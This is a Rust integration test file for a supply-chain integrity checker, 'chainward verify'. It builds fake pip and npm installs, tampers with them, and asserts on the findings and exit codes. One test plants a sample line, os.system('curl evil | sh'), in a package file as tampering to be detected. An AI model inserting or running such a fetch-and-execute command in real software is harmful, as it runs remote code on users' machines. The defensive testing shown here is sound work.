//! `chainward verify`: exit codes, JSON evidence, and the integrity part of `scan`, on real
//! trees built in a temporary folder (the detailed per-ecosystem cases live in
//! chainward-integrity's own tests).
use std::path::Path;

use base64::Engine as _;
use sha2::Digest as _;

use crate::chainward;

const INIT: &str = "def hello():\n    return 'hi'\n";
const METADATA: &str = "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n";

fn record_hash(bytes: &[u8]) -> String {
    format!(
        "sha256={}",
        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(bytes))
    )
}

/// A virtual environment with one installed distribution, as pip writes it.
fn venv(root: &Path) -> std::path::PathBuf {
    let sp = root.join("venv/lib/python3.11/site-packages");
    let info = sp.join("demo-1.0.dist-info");
    fs_err::create_dir_all(sp.join("demo")).unwrap();
    fs_err::create_dir_all(&info).unwrap();
    fs_err::write(sp.join("demo/__init__.py"), INIT).unwrap();
    fs_err::write(info.join("METADATA"), METADATA).unwrap();
    fs_err::write(info.join("INSTALLER"), "pip\n").unwrap();
    let record = format!(
        "demo/__init__.py,{},{}\ndemo-1.0.dist-info/METADATA,{},{}\ndemo-1.0.dist-info/INSTALLER,{},4\ndemo-1.0.dist-info/RECORD,,\n",
        record_hash(INIT.as_bytes()),
        INIT.len(),
        record_hash(METADATA.as_bytes()),
        METADATA.len(),
        record_hash(b"pip\n"),
    );
    fs_err::write(info.join("RECORD"), record).unwrap();
    sp
}

fn verify_json(dir: &Path, extra: &[&str]) -> (i32, serde_json::Value) {
    let out = chainward()
        .args(["verify", "--offline", "--format", "json"])
        .args(extra)
        .arg(dir)
        .output()
        .unwrap();
    let json = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "not JSON ({e}): {}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    });
    (out.status.code().unwrap(), json)
}

#[test]
fn clean_installed_tree_verifies_and_exits_0() {
    let tmp = tempfile::tempdir().unwrap();
    venv(tmp.path());
    let (code, json) = verify_json(tmp.path(), &[]);
    assert_eq!(code, 0, "{json:#}");
    assert_eq!(json["schema_version"], 1);
    assert_eq!(json["findings"].as_array().unwrap().len(), 0, "{json:#}");
    assert!(
        json["integrity"]["files"].as_u64().unwrap() >= 3,
        "{json:#}"
    );
    assert!(json.get("database").is_none());
}

#[test]
fn rewritten_file_is_a_finding_with_both_hashes_and_exits_1() {
    let tmp = tempfile::tempdir().unwrap();
    let sp = venv(tmp.path());
    let evil = "import os; os.system('curl evil | sh')\n";
    fs_err::write(sp.join("demo/__init__.py"), evil).unwrap();
    fs_err::write(sp.join("demo/payload.py"), "x = 1\n").unwrap();
    let (code, json) = verify_json(tmp.path(), &[]);
    assert_eq!(code, 1, "{json:#}");
    let findings = json["findings"].as_array().unwrap();
    let modified = findings
        .iter()
        .find(|f| f["code"] == "file-modified")
        .unwrap_or_else(|| panic!("{json:#}"));
    assert_eq!(modified["package"]["name"], "demo");
    assert_eq!(modified["severity"], "high");
    let ev = &modified["evidence"];
    assert!(
        ev["file"].as_str().unwrap().ends_with("demo/__init__.py"),
        "{ev}"
    );
    assert_eq!(ev["expected"]["algorithm"], "sha256");
    assert_eq!(
        ev["actual"]["hex"],
        hex::encode(sha2::Sha256::digest(evil.as_bytes()))
    );
    assert!(
        findings.iter().any(|f| f["code"] == "file-added"
            && f["evidence"]["file"]
                .as_str()
                .unwrap()
                .ends_with("payload.py")),
        "{json:#}"
    );
    // --fail-on above the findings' severity exits 0.
    let (code, _) = verify_json(tmp.path(), &["--fail-on", "critical"]);
    assert_eq!(code, 0);
}

#[test]
fn lockfile_origin_problems_are_findings_and_uncheckable_installs_exit_2() {
    let tmp = tempfile::tempdir().unwrap();
    let lock = r#"{
  "name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
  "packages": {
    "": {"name": "app", "version": "1.0.0", "dependencies": {"left-pad": "1.3.0"}},
    "node_modules/left-pad": {
      "version": "1.3.0",
      "resolved": "http://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz",
      "integrity": "sha1-W4o6d2Xf4AEmHd6RVYnngvjJTR4="
    }
  }
}
"#;
    fs_err::write(tmp.path().join("package-lock.json"), lock).unwrap();
    let empty_cache = tmp.path().join("npm-cache");
    fs_err::create_dir_all(&empty_cache).unwrap();
    let cache = empty_cache.to_str().unwrap();
    // Nothing is installed and the cache is empty: the byte comparison could not run.
    let (code, json) = verify_json(tmp.path(), &["--npm-cache", cache]);
    assert_eq!(code, 2, "{json:#}");
    assert!(
        !json["integrity"]["unchecked"]
            .as_array()
            .unwrap()
            .is_empty()
    );
    let codes: Vec<&str> = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["code"].as_str().unwrap())
        .collect();
    assert!(codes.contains(&"insecure-origin"), "{codes:?}");
    assert!(codes.contains(&"weak-integrity"), "{codes:?}");
    // Accepting the incomplete check leaves the findings to decide: exit 1.
    let (code, _) = verify_json(tmp.path(), &["--npm-cache", cache, "--allow-incomplete"]);
    assert_eq!(code, 1);
}

#[test]
fn scan_includes_integrity_findings_unless_told_not_to() {
    let tmp = tempfile::tempdir().unwrap();
    let sp = venv(tmp.path());
    fs_err::write(sp.join("demo/__init__.py"), "tampered = True\n").unwrap();
    let home = crate::demo_home();
    let scan = |extra: &[&str]| {
        let out = chainward()
            .args([
                "--home",
                home.path().to_str().unwrap(),
                "scan",
                "--format",
                "json",
            ])
            .args(extra)
            .arg(tmp.path())
            .output()
            .unwrap();
        let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        (out.status.code().unwrap(), json)
    };
    let (code, json) = scan(&[]);
    assert_eq!(code, 1, "{json:#}");
    assert!(
        json["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["code"] == "file-modified"),
        "{json:#}"
    );
    assert!(json["integrity"].is_object());
    assert!(json["database"].is_object());
    let (code, json) = scan(&["--no-integrity"]);
    assert_eq!(code, 0, "{json:#}");
    assert!(json.get("integrity").is_none());
}

/// Serves `body` for every request on 127.0.0.1, counting requests.
fn serve(body: Vec<u8>) -> (String, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    use std::io::{Read as _, Write as _};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = hits.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let mut buf = [0u8; 4096];
            let _ = stream.read(&mut buf);
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nContent-Type: application/octet-stream\r\nConnection: close\r\n\r\n",
                body.len()
            );
            let _ = stream.write_all(head.as_bytes());
            let _ = stream.write_all(&body);
        }
    });
    (format!("http://{addr}"), hits)
}

#[test]
fn online_verify_downloads_a_tarball_missing_from_the_cache_and_compares_the_install() {
    let tgz = crate::repo_root()
        .join("crates/chainward-integrity/tests/fixtures/npm/is-number@7.0.0.tgz");
    let bytes = fs_err::read(&tgz).unwrap();
    let integrity = format!(
        "sha512-{}",
        base64::engine::general_purpose::STANDARD.encode(sha2::Sha512::digest(&bytes))
    );
    let (base, hits) = serve(bytes);
    let tmp = tempfile::tempdir().unwrap();
    let lock = format!(
        r#"{{
  "name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
  "packages": {{
    "": {{"name": "app", "version": "1.0.0", "dependencies": {{"is-number": "7.0.0"}}}},
    "node_modules/is-number": {{
      "version": "7.0.0",
      "resolved": "{base}/is-number/-/is-number-7.0.0.tgz",
      "integrity": "{integrity}"
    }}
  }}
}}
"#
    );
    fs_err::write(tmp.path().join("package-lock.json"), lock).unwrap();
    let installed = tmp.path().join("node_modules/is-number");
    fs_err::create_dir_all(&installed).unwrap();
    let status = std::process::Command::new("tar")
        .arg("-xzf")
        .arg(&tgz)
        .arg("-C")
        .arg(&installed)
        .arg("--strip-components=1")
        .status()
        .unwrap();
    assert!(status.success());
    let cache = tmp.path().join("empty-cache");
    fs_err::create_dir_all(&cache).unwrap();
    let run = |extra: &[&str]| {
        let out = chainward()
            .args(["verify", "--format", "json"])
            .args(["--npm-cache", cache.to_str().unwrap()])
            .args(extra)
            .arg(tmp.path())
            .output()
            .unwrap();
        let json: serde_json::Value = serde_json::from_slice(&out.stdout)
            .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
        (out.status.code().unwrap(), json)
    };
    // Offline, the missing tarball makes the check incomplete.
    let (code, json) = run(&["--offline", "--fail-on", "critical"]);
    assert_eq!(code, 2, "{json:#}");
    assert_eq!(hits.load(std::sync::atomic::Ordering::SeqCst), 0);
    // Online, it is downloaded from `resolved` and every installed file is compared.
    let (code, json) = run(&["--fail-on", "critical"]);
    assert_eq!(code, 0, "{json:#}");
    assert!(hits.load(std::sync::atomic::Ordering::SeqCst) >= 1);
    assert_eq!(
        json["integrity"]["unchecked"].as_array().unwrap().len(),
        0,
        "{json:#}"
    );
    assert!(
        json["integrity"]["files"].as_u64().unwrap() >= 3,
        "{json:#}"
    );
    // Tampering with the install is caught against the downloaded bytes.
    fs_err::write(installed.join("index.js"), "module.exports = () => true;\n").unwrap();
    let (code, json) = run(&["--fail-on", "high"]);
    assert_eq!(code, 1, "{json:#}");
    assert!(
        json["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["code"] == "file-modified"),
        "{json:#}"
    );
}
